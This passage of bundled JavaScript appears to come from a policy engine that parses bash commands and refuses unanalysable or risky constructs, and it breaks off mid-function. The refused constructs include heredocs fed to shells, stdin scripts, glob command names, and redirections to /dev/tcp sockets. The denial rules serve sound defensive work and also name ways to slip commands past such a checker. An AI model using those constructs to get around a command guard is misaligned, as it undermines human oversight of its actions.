var UNKNOWN_PROGRAM = { paths: [], dangerous: [], readOnly: false };

// src/policy/shell/wrappers.ts
var WRAPPER_OPTIONS = lookupTable({
  timeout: {
    shortArgs: "sk",
    longArgs: ["--signal", "--kill-after"],
    longFlags: ["--preserve-status", "--foreground", "--verbose", "--help", "--version"],
    optionsFirst: true
  },
  nice: {
    shortArgs: "n",
    longArgs: ["--adjustment"],
    longFlags: ["--help", "--version"],
    optionsFirst: true
  },
  nohup: { longFlags: ["--help", "--version"], optionsFirst: true },
  stdbuf: {
    shortArgs: "ioe",
    longArgs: ["--input", "--output", "--error"],
    longFlags: ["--help", "--version"],
    optionsFirst: true
  },
  exec: { shortArgs: "a", abbreviations: false, optionsFirst: true },
  command: { abbreviations: false, optionsFirst: true }
});
function unwrap(argv) {
  const head = argv[0];
  if (head === void 0) return { kind: "none" };
  const args = argv.slice(1);
  const name = head.value;
  if (name === "builtin") {
    const inner2 = args[0]?.value === "--" ? args.slice(1) : args;
    return inner2.length === 0 ? { kind: "empty", wrapper: name } : { kind: "inner", wrapper: name, argv: inner2 };
  }
  if (name === "time") {
    if (head.quoted) return { kind: "none" };
    let rest = args;
    if (rest[0]?.value === "-p") rest = rest.slice(1);
    if (rest[0]?.value === "--") rest = rest.slice(1);
    if (rest.length === 0) return { kind: "empty", wrapper: name };
    if (rest[0].value.startsWith("-")) return { kind: "none" };
    return { kind: "inner", wrapper: name, argv: rest };
  }
  const spec = WRAPPER_OPTIONS[name];
  if (spec === void 0) return { kind: "none" };
  const scan = scanArguments(args, spec);
  if (hasOption(scan, "--help", "--version")) return { kind: "none" };
  if (name === "command" && hasOption(scan, "-v", "-V")) return { kind: "none" };
  let inner = scan.operands;
  if (name === "timeout") {
    if (inner.length === 0) return { kind: "none" };
    inner = inner.slice(1);
  }
  return inner.length === 0 ? { kind: "empty", wrapper: name } : { kind: "inner", wrapper: name, argv: inner };
}
var SHELLS = lookupTable({
  bash: { family: "bash", analysable: true },
  sh: { family: "bash", analysable: true },
  dash: { family: "bash", analysable: true },
  ash: { family: "bash", analysable: true },
  zsh: { family: "zsh", analysable: false },
  ksh: { family: "ksh", analysable: false },
  mksh: { family: "ksh", analysable: false },
  fish: { family: "fish", analysable: false },
  csh: { family: "csh", analysable: false },
  tcsh: { family: "csh", analysable: false }
});
function shellFamily(name) {
  return SHELLS[name]?.family;
}
var SAFE_LETTERS = "euxvlEf";
var SAFE_SET_O = /* @__PURE__ */ new Set(["errexit", "nounset", "pipefail", "xtrace", "verbose", "noglob", "errtrace"]);
var SAFE_LONG = /* @__PURE__ */ new Set(["--norc", "--noprofile", "--login", "--verbose"]);
function readShellCall(name, args) {
  const shell = SHELLS[name];
  if (shell === void 0) return { kind: "other" };
  let script = false;
  let fromStdin = false;
  let unsupported2 = false;
  let i = 0;
  for (; i < args.length; i++) {
    const token = args[i].value;
    if (token === "--" || token === "-") {
      i++;
      break;
    }
    if (token.startsWith("--")) {
      if (token === "--version" || token === "--help") return { kind: "other" };
      if (!SAFE_LONG.has(token)) unsupported2 = true;
      continue;
    }
    if (!(token.startsWith("-") || token.startsWith("+")) || token.length < 2) break;
    for (const letter of token.slice(1)) {
      if (letter === "c") script = true;
      else if (letter === "o") {
        if (!SAFE_SET_O.has(args[++i]?.value ?? "")) unsupported2 = true;
      } else if (letter === "s" || letter === "i") {
        fromStdin = true;
        unsupported2 = true;
      } else if (!SAFE_LETTERS.includes(letter)) unsupported2 = true;
    }
  }
  const operands = args.slice(i);
  if (script) {
    const text2 = operands[0];
    if (text2 === void 0) return { kind: "other" };
    return shell.analysable && !unsupported2 && !text2.glob ? { kind: "script", script: text2 } : { kind: "opaque" };
  }
  const file = operands[0];
  if (fromStdin || file === void 0) return { kind: "stdin" };
  return { kind: "other", file };
}

// src/policy/shell/command.ts
var NO_BINDINGS = /* @__PURE__ */ new Map();
var UNKNOWN = { paths: [], dangerous: [], readOnly: false };
function text(words2) {
  return words2.map((word) => word.value).join(" ");
}
function checkCommandName(word) {
  if (word.processSubstitution)
    deny(`a process substitution cannot be the command name (${code(word.value, 40)})`);
  if (word.glob)
    deny(
      `the command name ${code(word.value, 40)} is a glob, which runs whatever file matches; write the name out`
    );
  if (word.value === "") deny("the command name is empty");
}
function fixedPrefix(pattern) {
  let prefix = "";
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern[i];
    if (c === "*" || c === "?" || c === "[") break;
    if (c === "\\") i++;
    prefix += pattern[i] ?? "";
  }
  return prefix;
}
function optionLikeGlobs(program, args, cwds) {
  const found = { dangerous: [], globs: [] };
  let ended = false;
  for (const word of args) {
    if (word.value === "--" && program !== "find") ended = true;
    if (ended || !word.optionLikeGlob) continue;
    const named = word.value.startsWith("-") && fixedPrefix(word.pattern ?? word.value).includes("=");
    if (word.value.startsWith("-") && !named) {
      found.dangerous.push(dangerousOption(program, "<option-like glob>", word.value));
      continue;
    }
    const patterns = pathUses("read", word.value, "operand", { cwds }, word).flatMap(
      (use) => use.pattern ?? []
    );
    found.globs.push(
      named ? { word: word.value, patterns, mustNotMatch: true } : { word: word.value, patterns }
    );
  }
  return found;
}
function globWords(argv, cwds) {
  const found = [];
  argv.forEach((word, index) => {
    if (index === 0 || !word.glob || word.processSubstitution) return;
    const pattern = word.pattern ?? word.value;
    const expansions = pattern.startsWith("/") ? [{ pattern, prefix: "" }] : cwds.map((cwd) => {
      const dir = cwd === "/" ? "" : cwd;
      return { pattern: `${escapeLiteral(dir)}/${pattern}`, prefix: `${dir}/` };
    });
    found.push({ index, expansions, ...word.resplit === true ? { resplit: true } : {} });
  });
  return found;
}
function push(state, command) {
  state.commands.push(command);
  if (state.commands.length > MAX_SIMPLE_COMMANDS)
    deny(`the command holds more than ${MAX_SIMPLE_COMMANDS} simple commands; split it into several calls`);
}
var NO_OPTION_GLOBS = { dangerous: [], globs: [] };
function build(argv, raw, wrappers, facts, optionGlobs, cwds) {
  const paths = [...raw.paths, ...facts.paths];
  const dangerous = [...facts.dangerous, ...optionGlobs.dangerous];
  const values = argv.map((word) => word.value);
  const globs = globWords(argv, cwds);
  return {
    argv: values,
    text: values.join(" "),
    wrappers,
    envAssignments: [...raw.assignments],
    paths,
    dangerous,
    ...optionGlobs.globs.length === 0 ? {} : { optionLikeGlobs: optionGlobs.globs },
    ...globs.length === 0 ? {} : { globWords: globs },
    readOnly: facts.readOnly && dangerous.length === 0 && paths.every((use) => use.kind === "read"),
    ...facts.repositoryDirs === void 0 ? {} : { repositoryDirs: facts.repositoryDirs },
    ...facts.printsUrls === true ? { printsUrls: true } : {}
  };
}
var programContext = (state) => ({ env: state.env, cwds: state.cwds });
function analyzeCommand(raw, state) {
  for (const { name: name2, value } of raw.assignments) checkVariable(name2, value, "the command sets");
  const wrappers = [];
  if (raw.test) {
    const facts2 = programAnalyzer("[[")?.(raw.words.slice(1, -1), programContext(state)) ?? UNKNOWN;
    push(state, build(raw.words, raw, wrappers, facts2, NO_OPTION_GLOBS, state.cwds));
    return;
  }
  const argv = unwrapCommand(raw, state, wrappers);
  if (argv === void 0) return;
  const head = argv[0];
  const args = argv.slice(1);
  const name = head.value;
  const base = name.slice(name.lastIndexOf("/") + 1);
  const family = shellFamily(base);
  const call = family === void 0 ? void 0 : readShellCall(base, args);
  refuseUnreadableInput(raw, argv, { base, family, call }, state);
  if (call !== void 0 && family !== void 0) {
    analyzeShellCall(raw, state, { argv, wrappers, family, call });
    return;
  }
  const analyzer = programAnalyzer(name);
  const facts = analyzer === void 0 ? UNKNOWN : analyzer(args, programContext(state));
  push(state, build(argv, raw, wrappers, facts, optionLikeGlobs(name, args, state.cwds), state.cwds));
}
function unwrapCommand(raw, state, wrappers) {
  let argv = raw.words;
  for (; ; ) {
    const head = argv[0];
    if (head === void 0) deny("a wrapper command has no command to run");
    checkCommandName(head);
    if (checkBuiltin(argv, raw.scope.bindings) === "silent") {
      if (raw.paths.length > 0)
        push(
          state,
          build(
            argv,
            raw,
            wrappers,
            { paths: [], dangerous: [], readOnly: true },
            NO_OPTION_GLOBS,
            state.cwds
          )
        );
      return void 0;
    }
    if (head.value === "cd") {
      const { uses: paths, targets } = changeDirectory(argv, state, state.env.home, raw.scope.inLoop);
      state.changedDirectory = { targets, at: state.commands.length };
      push(
        state,
        build(argv, raw, wrappers, { paths, dangerous: [], readOnly: true }, NO_OPTION_GLOBS, state.cwds)
      );
      return void 0;
    }
    const unwrapped = unwrap(argv);
    if (unwrapped.kind === "inner") {
      wrappers.push(unwrapped.wrapper);
      argv = unwrapped.argv;
      continue;
    }
    if (unwrapped.kind === "empty" && unwrapped.wrapper === "exec")
      deny(
        "`exec` without a command changes the shell's own file descriptors for everything after it; redirect each command instead"
      );
    return argv;
  }
}
function refuseUnreadableInput(raw, argv, shell, state) {
  const { base, family, call } = shell;
  const name = argv[0].value;
  const args = argv.slice(1);
  if (raw.literalStdin && (family !== void 0 || isInterpreter(base)))
    deny(
      `a heredoc or here-string feeds ${code(name)}, which would run it as code; ${family !== void 0 ? `pass the commands with ${base} -c '…'` : "put the program in a file and run that"}`
    );
  if (call?.kind === "stdin")
    deny(
      `${code(text(argv), 40)} reads its commands from standard input, which cannot be analysed; pass them with ${base} -c '…'`
    );
  if (family === void 0 && programFromStdin(base, args, programContext(state)))
    deny(
      `${code(text(argv), 40)} reads its program from standard input, which cannot be analysed; put the program in a file and run that`
    );
}
function analyzeShellCall(raw, state, shell) {
  const { argv, wrappers, family, call } = shell;
  const name = argv[0].value;
  const args = argv.slice(1);
  const base = name.slice(name.lastIndexOf("/") + 1);
  if (call.kind === "script" && base === name) {
    const before = state.commands.length;
    state.walkScript(call.script.value, {
      depth: raw.scope.depth + 1,
      inLoop: raw.scope.inLoop,
      paths: raw.paths,
      literalStdin: false,
      bindings: NO_BINDINGS
    });
    for (let i = before; i < state.commands.length; i++) {
      const inner = state.commands[i];
      state.commands[i] = {
        ...inner,
        wrappers: [...wrappers, name, ...inner.wrappers],
        envAssignments: [...raw.assignments, ...inner.envAssignments]
      };
    }
    return;
  }
  const dangerous = call.kind === "script" || call.kind === "opaque" ? [dangerousOption(family, "-c", "-c")] : [];
  const paths = call.kind === "other" && call.file !== void 0 ? operandPaths("read", call.file, programContext(state)) : [];
  const options = optionLikeGlobs(name, args, state.cwds);
  push(state, build(argv, raw, wrappers, { paths, dangerous, readOnly: false }, options, state.cwds));
}

// src/policy/shell/syntax-check.ts
var GAP = /^(?:[ \t\n]|\\\n)*$/;
var REDIRECTS = /* @__PURE__ */ new Set(["file_redirect", "heredoc_redirect", "herestring_redirect"]);
function lineAt(source, node) {
  const start = source.lastIndexOf("\n", node.start - 1) + 1;
  const end = source.indexOf("\n", node.end);
  return source.slice(start, end === -1 ? source.length : end);
}
function heredocDelimiter(start) {
  const plain2 = /^[A-Za-z0-9_.+-]+$/;
  if (plain2.test(start)) return { word: start, quoted: false };
  const quoted = /^'([A-Za-z0-9_.+-]+)'$|^"([A-Za-z0-9_.+-]+)"$|^\\([A-Za-z0-9_.+-]+)$/.exec(start);
  const word = quoted?.[1] ?? quoted?.[2] ?? quoted?.[3];
  if (word === void 0)
    deny(
      `the heredoc delimiter ${JSON.stringify(start)} is not accepted; use a plain word such as EOF or 'EOF'`
    );
  return { word, quoted: true };
}
function checkHeredoc(source, redirect) {
  const find = (type) => redirect.children.find((child) => child.type === type);
  const operator = find("<<") ?? find("<<-");
  const start = find("heredoc_start");
  const end = find("heredoc_end");
  if (operator === void 0 || start === void 0 || end === void 0)
    deny(`could not analyse the heredoc near \`${near(source, redirect.start)}\``);
  const strip = (line) => operator.type === "<<-" ? line.replace(/^\t+/, "") : line;
  const { word, quoted } = heredocDelimiter(start.text);
  const misplaced = () => deny(
    `the heredoc ending in ${word} could not be matched the way bash reads it; end it with a line holding only ${word}`
  );
  if (strip(end.text) !== word || strip(lineAt(source, end)) !== word) misplaced();
  const body = find("heredoc_body")?.text ?? "";
  if (body.split("\n").slice(0, -1).some((line) => strip(line) === word))
    misplaced();
  if (!quoted && /(?:^|[^\\])(?:\\\\)*[$`]/.test(body))
    deny(
      `the heredoc body expands $… or \`…\` when the command runs; quote the delimiter (<<'${word}') to make the body literal`
    );
}
function checkComment(source, comment) {
  if (comment.text.includes("\n"))
    deny(`could not analyse the comment near \`${near(source, comment.start)}\``);
  const at = comment.start;
  if (at === 0) return;
  const before = source[at - 1];
  if ("\n;&|()".includes(before)) return;
  if (before === " " || before === "	") {
    let backslashes = 0;
    for (let i = at - 2; i >= 0 && source[i] === "\\"; i--) backslashes++;
    if (backslashes % 2 === 0) return;
  }
  deny(
    `a "#" in the middle of a word does not start a comment in bash; quote it (near \`${near(source, at)}\`)`
  );
}
function checkDescriptor(source, redirect, leafEndingAt) {
  if (redirect.children[0]?.type === "file_descriptor") return;
  const before = leafEndingAt.get(redirect.start);
  if (before !== void 0 && /^[0-9]+$|^\{[A-Za-z_][A-Za-z0-9_]*\}$/.test(before.text))
    deny(
      `could not analyse the redirection near \`${near(source, before.start)}\`: bash reads \`${before.text}\` as its file descriptor`
    );
}
function checkSource(root, source) {
  const leaves = [];
  const redirects = [];
  const pending = [root];
  for (let node = pending.pop(); node !== void 0; node = pending.pop()) {
    if (node.type === "comment") checkComment(source, node);
    if (node.type === "heredoc_redirect") checkHeredoc(source, node);
    if (REDIRECTS.has(node.type)) redirects.push(node);
    if (node.children.length === 0 || node.type === "heredoc_body") leaves.push(node);
    else pending.push(...node.children);
  }
  leaves.sort((a, b) => a.start - b.start);
  const leafEndingAt = /* @__PURE__ */ new Map();
  let position = 0;
  for (const leaf of leaves) {
    if (redirects.length > 0 && leaf.end > leaf.start) leafEndingAt.set(leaf.end, leaf);
    if (leaf.start > position) {
      const gap = source.slice(position, leaf.start);
      if (!GAP.test(gap))
        deny(
          `could not analyse the command: bash would read text the parser skipped, near \`${near(source, position)}\``
        );
      if (position > 0 && /^(?:\\\n)+$/.test(gap))
        deny(
          `a line continuation joins two words near \`${near(source, position)}\`; put a space before the backslash`
        );
    }
    position = Math.max(position, leaf.end);
  }
  if (!GAP.test(source.slice(position)))
    deny(
      `could not analyse the command: bash would read text the parser skipped, near \`${near(source, position)}\``
    );
  for (const redirect of redirects) checkDescriptor(source, redirect, leafEndingAt);
}

// src/policy/shell/walk.ts
var union = (a, b) => [.../* @__PURE__ */ new Set([...a, ...b])];
function unsupported(node) {
  deny(
    `${code(node.text)} (${node.type}) is not a construct this analysis understands, so the command is refused`
  );
}
function nested(scope, changes = {}) {
  const depth = scope.depth + 1;
  if (depth > MAX_NESTING)
    deny(
      `the command is nested too deeply (more than ${MAX_NESTING} levels of subshells, groups, substitutions or scripts)`
    );
  return { ...scope, ...changes, depth };
}
var SEPARATOR_TOKENS = [";", "&", "\n"];
var tokens = (...types) => /* @__PURE__ */ new Set([...types, ...SEPARATOR_TOKENS]);
var SEPARATORS = tokens();
var LIST_TOKENS = tokens("&&", "||");
var PIPELINE_TOKENS = /* @__PURE__ */ new Set(["|", "|&"]);
var NEGATION_TOKENS = /* @__PURE__ */ new Set(["!"]);
var SUBSHELL_TOKENS = tokens("(", ")");
var GROUP_TOKENS = tokens("{", "}");
var IF_TOKENS = tokens("if", "then", "fi");
var ELIF_TOKENS = tokens("elif", "then");
var ELSE_TOKENS = tokens("else");
var WHILE_TOKENS = tokens("while", "until");
var DO_TOKENS = tokens("do", "done");
var FOR_TOKENS = tokens("for", "in");
var CASE_TOKENS = tokens("case", "in", "esac");
var CASE_ITEM_TOKENS = tokens("(", ")", "|", ";;", ";&", ";;&");
var PROCESS_SUBSTITUTION_TOKENS = tokens("<(", ">(", ")");
var HEREDOC_PARTS = /* @__PURE__ */ new Set([
  "<<",
  "<<-",
  "heredoc_start",
  "heredoc_body",
  "heredoc_end",
  "file_descriptor"
]);
var WRITE_OPERATORS = /* @__PURE__ */ new Set([">", ">>", ">|", "&>", "&>>", ">&"]);
var Walker = class {
  constructor(state) {
    this.state = state;
    this.wordOptions = { home: state.env.home };
  }
  state;
  /** Read-only, shared by every word of the walk. */
  wordOptions;
  /** Word evaluation where `scope` stands: with the loop variables bound there. */
  options(scope) {
    return scope.bindings.size === 0 ? this.wordOptions : { ...this.wordOptions, bindings: scope.bindings };
  }
  word(node, scope) {
    if (node.type === "process_substitution") {
      this.statements(node, nested(scope, { paths: [], literalStdin: false }), PROCESS_SUBSTITUTION_TOKENS);
      return {
        value: node.text,
        glob: false,
        optionLikeGlob: false,
        quoted: false,
        processSubstitution: true
      };
    }
    return evaluateWord(node, this.options(scope));
  }
  /** Walks the named children of `node` as statements; anonymous tokens must be in `tokens`. */
  statements(node, scope, tokens2) {
    for (const child of node.children) {
      if (!child.named) {
        if (!tokens2.has(child.type)) unsupported(node);
        continue;
      }
      this.statement(child, scope);
    }
  }
  statement(node, scope) {
    switch (node.type) {
      case "comment":
        return;
      case "command":
        return this.command(node, scope);
      case "redirected_statement":
        return this.redirected(node, scope);
      case "list":
        return this.list(node, scope);
      case "pipeline":
        return this.statements(node, scope, PIPELINE_TOKENS);
      case "negated_command":
        return this.statements(node, scope, NEGATION_TOKENS);
      case "subshell":
        return this.statements(node, nested(scope), SUBSHELL_TOKENS);
      case "compound_statement":
        if (node.children[0]?.type !== "{")
          deny(
            `${code(node.text, 40)} is an arithmetic command, which can assign variables and run commands`
          );
        return this.statements(node, nested(scope), GROUP_TOKENS);
      case "if_statement":
        return this.compound(node, nested(scope), IF_TOKENS);
      case "while_statement":
        return this.compound(node, nested(scope, { inLoop: true }), WHILE_TOKENS);
      case "for_statement":
        return this.forLoop(node, nested(scope, { inLoop: true }));
      case "case_statement":
        return this.caseStatement(node, nested(scope));
      case "c_style_for_statement":
        return deny(
          "a C-style for loop evaluates arithmetic, which can assign variables and run commands; write the commands out"
        );
      case "function_definition":
        return deny(
          "defining shell functions is not accepted (a function's body runs where it is called, which this analysis does not follow); run the commands directly"
        );
      case "declaration_command":
        return checkDeclaration(node, this.state.env.home, scope.bindings);
      case "unset_command":
        return checkUnset(node, scope.bindings);
      case "variable_assignment":
        return checkStatementAssignment(node, this.state.env.home, scope.bindings);
      case "variable_assignments":
        for (const child of node.children) if (child.named) this.statement(child, scope);
        return;
      case "test_command":
        return this.test(node, scope);
      default:
        unsupported(node);
    }
  }
  /**
   * `a && b`, `a || b`: when `a` is a `cd`, `b` runs only where the `cd` got to (`&&`: bash stops when
   * `cd` fails) or only where the shell already was (`||`); after the list, either.
   */
  list(node, scope) {
    const outcome = this.outcome(node, scope);
    this.state.cwds = union(outcome.ok, outcome.failed);
  }
  /** Walks a statement; where the shell may be when it succeeded, and when it failed. */
  outcome(node, scope) {
    const [first, operator, second, ...more] = node.children;
    if (node.type === "list") {
      const plain2 = first?.named === true && second?.named === true && more.length === 0;
      if (!plain2 || operator?.type !== "&&" && operator?.type !== "||") {
        this.statements(node, scope, LIST_TOKENS);
        return { ok: this.state.cwds, failed: this.state.cwds };
      }
      const left = this.outcome(first, scope);
      if (operator.type === "&&") {
        this.state.cwds = left.ok;
        const right2 = this.outcome(second, scope);
        return { ok: right2.ok, failed: union(left.failed, right2.failed) };
      }
      this.state.cwds = left.failed;
      const right = this.outcome(second, scope);
      return { ok: union(left.ok, right.ok), failed: right.failed };
    }
    if (node.type === "negated_command" && first?.type === "!" && operator?.named === true && second === void 0) {
      const inner = this.outcome(operator, scope);
      return { ok: inner.failed, failed: inner.ok };
    }
    const before = this.state.cwds;
    const at = this.state.commands.length;
    this.statement(node, scope);
    const cd = this.state.changedDirectory;
    const onlyCd = (node.type === "command" || node.type === "redirected_statement") && cd?.at === at && this.state.commands.length === at + 1;
    if (onlyCd) return { ok: [...cd.targets], failed: before };
    return { ok: this.state.cwds, failed: this.state.cwds };
  }
  /** if/while bodies: conditions and statements, with elif/else clauses and do groups. */
  compound(node, scope, tokens2) {
    for (const child of node.children) {
      if (!child.named) {
        if (!tokens2.has(child.type)) unsupported(node);
      } else if (child.type === "elif_clause") this.statements(child, scope, ELIF_TOKENS);
      else if (child.type === "else_clause") this.statements(child, scope, ELSE_TOKENS);
      else if (child.type === "do_group") this.statements(child, scope, DO_TOKENS);
      else this.statement(child, scope);
    }
  }
  /**
   * `for f in a b; do …; done`: the body is judged once for each value, with `$f` bound to it (a glob
   * binds `$f` to one match at a time, which the policy judges by expanding the glob). Without a list
   * (or over anything that expands at run time) nothing is bound, and a `$f` in the body is refused.
   */
  forLoop(node, scope) {
    const variable = childByField(node, "variable");
    const values = [];
    let body;
    for (const child of node.children) {
      if (child.type === "select")
        deny("`select` reads a choice from its input, which this analysis does not follow");
      if (!child.named) {
        if (!FOR_TOKENS.has(child.type)) unsupported(node);
      } else if (child === variable || child.type === "comment") continue;
      else if (child.type === "do_group") body = child;
      else values.push(this.word(child, scope));
    }
    if (variable?.type !== "variable_name" || body === void 0) unsupported(node);
    const bindings = loopBindings(variable.text, values, scope);
    if (bindings.length === 0) {
      checkAssignment(variable.text, void 0, "the for loop sets", {
        exported: false,
        bound: scope.bindings
      });
      this.statements(body, scope, DO_TOKENS);
      return;
    }
    for (const binding of bindings) {
      const bound = new Map(scope.bindings).set(variable.text, binding);
      this.statements(body, { ...scope, bindings: bound }, DO_TOKENS);
    }
  }
  caseStatement(node, scope) {
    for (const child of node.children) {
      if (!child.named) {
        if (!CASE_TOKENS.has(child.type)) unsupported(node);
      } else if (child.type === "case_item") {
        for (const item of child.children) {
          if (!item.named) {
            if (!CASE_ITEM_TOKENS.has(item.type)) unsupported(child);
          } else if (item.field === "value") evaluateWord(item, this.options(scope));
          else this.statement(item, scope);
        }
      } else if (child.type === "comment") continue;
      else evaluateWord(child, this.options(scope));
    }
  }
  /** `[[ … ]]` and `[ … ]`: the operands become the arguments of a test command. */
  test(node, scope) {
    const open = node.children[0]?.type;
    const tokens2 = [];
    const collect = (part) => {
      for (const child of part.children) {
        switch (child.type) {
          case "binary_expression":
          case "unary_expression":
          case "parenthesized_expression":
            collect(child);
            break;
          case "regex":
            tokens2.push(evaluateRegex(child));
            break;
          case "test_operator":
          case "!":
          case "=":
          case "==":
          case "!=":
          case "=~":
          case "<":
          case ">":
          case "&&":
          case "||":
          case "(":
          case ")":
          case "-a":
          case "-o":
            tokens2.push({
              value: child.text,
              glob: false,
              optionLikeGlob: false,
              quoted: false,
              processSubstitution: false
            });
            break;
          case "[[":
          case "]]":
          case "[":
          case "]":
            if (part !== node) unsupported(node);
            break;
          default: {
            const word = evaluateWord(child, this.options(scope));
            if (open !== "[[") tokens2.push(word);
            else if (word.loopGlob === true) {
              const { resplit: _split, ...whole } = word;
              tokens2.push({ ...whole, optionLikeGlob: false });
            } else tokens2.push({ ...word, glob: false, optionLikeGlob: false });
          }
        }
      }
    };
    collect(node);
    const close = open === "[[" ? "]]" : "]";
    const brackets = (value) => ({
      value,
      glob: false,
      optionLikeGlob: false,
      quoted: false,
      processSubstitution: false
    });
    const words2 = [brackets(open === "[[" ? "[[" : "["), ...tokens2, brackets(close)];
    analyzeCommand(
      {
        words: words2,
        assignments: [],
        paths: scope.paths,
        literalStdin: scope.literalStdin,
        scope,
        test: open === "[["
      },
      this.state
    );
  }
  /** A redirection's target: a path use, an fd duplication (nothing), or a process substitution. */
  fileRedirect(node, scope) {
    let operator;
    for (const child of node.children) {
      if (!child.named) operator = child.type;
      else if (child.type === "file_descriptor") {
        if (!/^[0-9]+$/.test(child.text))
          deny(`the redirection ${code(node.text, 40)} names its file descriptor with a variable`);
      }
    }
    const destinations = childrenByField(node, "destination");
    if (destinations.length > 1)
      deny(
        `could not analyse the redirection ${code(node.text, 40)} (words after its target); put the arguments before the redirection`
      );
    const target = destinations[0];
    if (operator === ">&-" || operator === "<&-") {
      if (target !== void 0) deny(`could not analyse the redirection ${code(node.text, 40)}`);
      return [];
    }
    if (target === void 0) deny(`the redirection ${code(node.text, 40)} has no target`);
    const word = this.word(target, scope);
    if (word.processSubstitution) return [];
    if (operator === ">&" || operator === "<&") {
      if (/^[0-9]+-?$|^-$/.test(word.value)) return [];
      if (operator === "<&")
        deny(`the redirection ${code(node.text, 40)} duplicates a descriptor that is not a number`);
    }
    const kind = operator === "<" ? "read" : WRITE_OPERATORS.has(operator ?? "") ? "write" : void 0;
    if (kind === void 0) deny(`the redirection operator in ${code(node.text, 40)} is not accepted`);
    if (word.glob) deny(`the redirection target ${code(word.value, 40)} is a glob; name the file`);
    if (word.value === "") deny("a redirection target is empty");
    const uses = pathUses(kind, word.value, "redirect", { cwds: this.state.cwds });
    if ([word.value, ...uses.map((use) => use.path)].some((path) => /^\/dev\/(?:tcp|udp)\//.test(path)))
      deny(
        `${code(word.value, 40)} opens a network connection (bash treats /dev/tcp and /dev/udp as sockets)`
      );
    return uses;
  }
  /**
   * The redirections of a statement. Heredocs can carry what follows them on the line (the rest of a
   * pipeline, `&& cmd`, more redirections); those come back as `after` to be walked next.
   */
  redirections(nodes, scope) {
    const paths = [];
    const after = [];
    let literalStdin = false;
    const one = (node) => {
      switch (node.type) {
        case "file_redirect":
          paths.push(...this.fileRedirect(node, scope));
          return;
        case "herestring_redirect":
          literalStdin = true;
          for (const child of node.children) {
            if (!child.named) {
              if (child.type !== "<<<") unsupported(node);
            } else if (child.type !== "file_descriptor") this.word(child, scope);
          }
          return;
        case "heredoc_redirect":
          literalStdin = true;
          for (const child of node.children) {
            const field = child.field;
            if (HEREDOC_PARTS.has(child.type)) continue;
            if (field === "redirect") one(child);
            else if (field === "argument")
              deny(
                "could not analyse the heredoc: words follow its marker, or its body starts in a way the parser misreads; put arguments before << and start the body with a plain line"
              );
            else if (field === "operator") continue;
            else if (field === "right" || child.type === "pipeline") after.push(child);
            else unsupported(node);
          }
          return;
        default:
          unsupported(node);
      }
    };
    for (const node of nodes) one(node);
    return { paths, literalStdin, after };
  }
  redirected(node, scope) {
    const body = childByField(node, "body");
    const redirects = childrenByField(node, "redirect");
    for (const child of node.children) {
      if (child !== body && child.field !== "redirect") unsupported(node);
    }
    if (body === void 0)
      deny("a redirection without a command is not accepted; write `: > file` to create or empty a file");
    const { paths, literalStdin, after } = this.redirections(redirects, scope);
    const inner = {
      ...scope,
      paths: [...scope.paths, ...paths],
      literalStdin: scope.literalStdin || literalStdin
    };
    const before = this.state.commands.length;
    this.statement(body, inner);
    if (this.state.commands.length === before && paths.length > 0)
      deny("a redirection around a statement that runs no command is not accepted");
    this.continuations(after, scope);
  }
  continuations(nodes, scope) {
    for (const node of nodes) {
      if (node.type === "pipeline" && node.children[0]?.type === "|")
        this.statements(node, scope, PIPELINE_TOKENS);
      else this.statement(node, scope);
    }
  }
  command(node, scope) {
    const assignments = [];
    const words2 = [];
    const redirects = [];
    let previousWordEnd = -1;
    for (const child of node.children) {
      const field = child.field;
      if (field === "name" || field === "argument") {
        if (child.start === previousWordEnd)
          deny(
            `could not analyse ${code(node.text, 40)}: bash reads ${code(child.text, 20)} and the word before it as one word`
          );
        previousWordEnd = child.end;
      }
      if (child.type === "variable_assignment")
        assignments.push(readAssignment(child, this.state.env.home, scope.bindings));
      else if (field === "redirect") redirects.push(child);
      else if (field === "name") {
        const inner = child.children.filter((part) => part.named);
        if (child.type !== "command_name" || inner.length !== 1 || child.children.length !== 1)
          unsupported(node);
        words2.unshift(this.word(inner[0], scope));
      } else if (field === "argument") words2.push(this.word(child, scope));
      else unsupported(node);
    }
    if (childByField(node, "name") === void 0)
      deny(`could not find the command name in ${code(node.text, 40)}`);
    const { paths, literalStdin, after } = this.redirections(redirects, scope);
    const raw = {
      words: words2,
      assignments,
      paths: [...scope.paths, ...paths],
      literalStdin: scope.literalStdin || literalStdin,
      scope,
      test: false
    };
    analyzeCommand(raw, this.state);
    this.continuations(after, scope);
  }
  program(root, scope) {
    if (root.type !== "program") unsupported(root);
    this.statements(root, scope, SEPARATORS);
  }
};
function loopBindings(name, values, scope) {
  if (values.length > MAX_LOOP_VALUES)
    deny(`the for loop has more than ${MAX_LOOP_VALUES} values; split it into several commands`);
  const bindings = /* @__PURE__ */ new Map();
  for (const word of values) {
    if (word.processSubstitution || word.loopGlob === true)
      deny(
        `the for loop runs over ${code(word.value, 40)}, whose values are only known when the command runs; list the values`
      );
    const binding = word.glob ? {
      kind: "glob",
      pattern: word.pattern ?? word.value,
      value: word.value,
      optionLike: word.optionLikeGlob
    } : { kind: "literal", value: word.value };
    checkAssignment(name, binding.kind === "literal" ? binding.value : void 0, "the for loop sets", {
      exported: false,
      bound: scope.bindings,
      valueUnknown: binding.kind === "glob"
    });
    bindings.set(
      `${binding.kind}\0${binding.value}\0${binding.kind === "glob" ? binding.pattern : ""}`,
      binding
    );
  }
  return [...bindings.values()];
}
function walkSource(parser, source, state, scope) {
  if (scope.depth > MAX_NESTING)
    deny(
      `the command is nested too deeply (more than ${MAX_NESTING} levels of subshells, groups, substitutions or scripts)`
    );
  const tree = parser.parse(source);
  if (tree === null) deny("the command could not be parsed");
  let root;
  try {
    root = copyTree(tree, source);
  } finally {
    tree.delete();
  }
  checkSource(root, source);
  new Walker(state).program(root, scope);
}

// src/policy/shell/analyze.ts
var CONTROL_CHARACTER = /[\x00-\x08\x0b-\x1f\x7f]/;
function controlCharacter(text2) {
  return CONTROL_CHARACTER.exec(text2)?.[0];
}
function deepFreeze(value) {
  if (typeof value === "object" && value !== null && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const inner of Object.values(value)) deepFreeze(inner);
  }
  return value;
}
function internalError(error) {
  const message = error instanceof Error ? error.message : String(error);
  return { ok: false, error: `the command could not be analysed (internal error: ${message})` };
}
function analyzeWith(parser, command, env) {
  const control = controlCharacter(command);
  if (control !== void 0)
    return {
      ok: false,
      error: `the command contains the control character U+${control.charCodeAt(0).toString(16).padStart(4, "0").toUpperCase()}, which bash and this analysis may read differently; remove it`
    };
  try {
    const state = {
      env,
